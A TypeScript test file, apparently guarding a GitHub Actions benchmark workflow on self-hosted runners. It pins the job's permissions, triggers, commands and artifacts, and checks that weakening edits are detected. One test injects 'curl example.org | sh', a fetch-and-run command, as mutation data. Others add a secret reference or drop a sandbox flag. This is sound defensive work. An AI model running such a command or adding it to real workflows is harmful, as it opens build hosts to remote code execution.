/** What the one job on a benchmark host may do: pinned here, so that whoever changes it says so twice. Linters see the rest. */
import assert from 'node:assert/strict'
import { globSync, readFileSync } from 'node:fs'
import { join, resolve } from 'node:path'
import { test } from 'node:test'
import { parse } from 'yaml'
import { MOST_HOSTS } from '../build/most-hosts.ts'

type Step = { run?: string; uses?: string; with?: { path?: string }; 'working-directory'?: string }
type Job = Record<string, unknown> & { steps: Step[]; outputs: object }
type Workflow = { on: object; permissions: unknown; jobs: Record<string, Job> & { plan: Job; measure: Job } }

const folder = resolve(import.meta.dirname, '../../.github/workflows')
const read = (name: string) => readFileSync(join(folder, name), 'utf8')
const others = globSync('*.yml', { cwd: folder, exclude: ['bench.yml'] })

function factsOf(text: string) {
  const workflow = parse(text) as Workflow
  const { on, permissions, jobs } = workflow
  const { measure: job, ...rest } = jobs
  const hosted = [rest, ...others.map(name => (parse(read(name)) as Workflow).jobs)].flatMap(each =>
    Object.values(each),
  )
  return {
    started_by: Object.keys(on).join(),
    after: [job.needs, jobs.plan.if, job.environment],
    permissions: [permissions, job.permissions],
    runs_on: [job['runs-on'], new Set(hosted.map(each => each['runs-on']))],
    queue: job.concurrency,
    // no condition, container, service, shell or default of its own
    keys: [[workflow], [job], job.steps].map(each => [...new Set(each.flatMap(Object.keys))].join()),
    told: [...new Set(JSON.stringify({ ...job, outputs: {} }).match(/\$\{\{.*?\}\}/g))].join(),
    artifacts: job.steps.flatMap(({ uses, with: input }) =>
      uses ? `${uses.replace(/@[0-9a-f]{40}$/, '')} ${input?.path}` : [],
    ),
    commands: job.steps.flatMap(({ run, 'working-directory': at }) => (run ? `${at ?? '.'}: ${run}` : [])),
    outputs: Object.keys(job.outputs).length,
    // in all workflows: who silences a linter says so here
    silenced: [text, ...others.map(read)].flatMap(each => each.match(/zizmor: ignore\S*/g) ?? []),
    runs_entries: /npm run (?:pack-bundle|preview|verify)/.test(text),
  }
}

const PINNED: ReturnType<typeof factsOf> = {
  started_by: 'workflow_dispatch,schedule',
  after: ['plan', "github.ref == 'refs/heads/main'", { name: 'bench' }],
  permissions: [{}, {}],
  runs_on: [['self-hosted', `bench-\${{ matrix.host }}`], new Set(['ubuntu-24.04'])],
  queue: { group: `bench-host-\${{ matrix.host }}`, 'cancel-in-progress': false, queue: 'max' },
  keys: [
    'name,on,permissions,concurrency,jobs',
    'name,needs,strategy,runs-on,timeout-minutes,permissions,environment,concurrency,outputs,env,steps',
    'run,uses,with,working-directory,id',
  ],
  told: `\${{ matrix.host }},\${{ fromJSON(needs.plan.outputs.hosts) }},\${{ strategy.job-index }},\${{ needs.plan.outputs.digest }}`,
  artifacts: [...['code', 'kit'].map(name => `actions/download-artifact ${name}`), 'actions/upload-artifact run/raw/'],
  commands: [
    '.: rm -rf kit run checkout code builds',
    '.: echo "$DIGEST  code/code.tar" | sha256sum --check --strict',
    '.: mkdir -p checkout run && tar --extract --no-same-owner --file code/code.tar --directory checkout',
    'checkout: npm run unpack-bundle -- --kit ../kit/kit.tar --out ../builds',
    'checkout: npm run bench -- --host "$HOST" --kit ../builds/kit.json --data ../run --sandbox || test $? -eq 1',
    '.: echo "digest_$SLOT=$HOST $(sha256sum < "$(ls -d run/raw/*)/SHA256SUMS" | cut -c 1-64)" >> "$GITHUB_OUTPUT"',
  ],
  outputs: MOST_HOSTS,
  silenced: ['zizmor: ignore[self-hosted-runner]'],
  runs_entries: false,
}

test('the job on the host does this and nothing else', () => assert.deepEqual(factsOf(read('bench.yml')), PINNED))

for (const [fact, from, to] of [
  ['started_by', 'on:\n', 'on:\n  pull_request:\n'],
  ['after', "    if: github.ref == 'refs/heads/main'\n", ''],
  ['after', '      name: bench\n', '      name: other\n'],
  ['permissions', '    permissions: {}\n', '    permissions: { contents: read }\n'],
  ['runs_on', 'runs-on: ubuntu-24.04', 'runs-on: [self-hosted]'],
  ['queue', '      queue: max\n', ''],
  ['keys', '    permissions: {}\n', '    permissions: {}\n    if: always()\n'],
  ['keys', 'working-directory: checkout\n', 'working-directory: checkout\n        shell: sh\n'],
  ['told', 'needs.plan.outputs.digest }}', 'secrets.KEY }}'],
  ['artifacts', 'path: kit\n', 'path: checkout\n'],
  ['artifacts', 'actions/download-artifact', 'actions/cache'],
  ['artifacts', /(actions\/download-artifact)@[0-9a-f]{40}/, '$1@v4'],
  ['commands', ' --sandbox', ''],
  ['commands', '- run: rm', '- run: curl example.org | sh\n      - run: rm'],
  ['commands', 'working-directory: checkout', 'working-directory: kit'],
  ['outputs', /\n +digest_7: .*/, ''],
  ['silenced', 'ignore[self-hosted-runner]', 'ignore'],
  ['runs_entries', '      - id: pack\n', '      - run: npm run pack-bundle\n      - id: pack\n'],
] as const)
  test(`${fact} of ${JSON.stringify(to)} is seen`, () => {
    const found = factsOf(read('bench.yml').replace(from, to))
    assert.notDeepEqual(found[fact], PINNED[fact])
  })
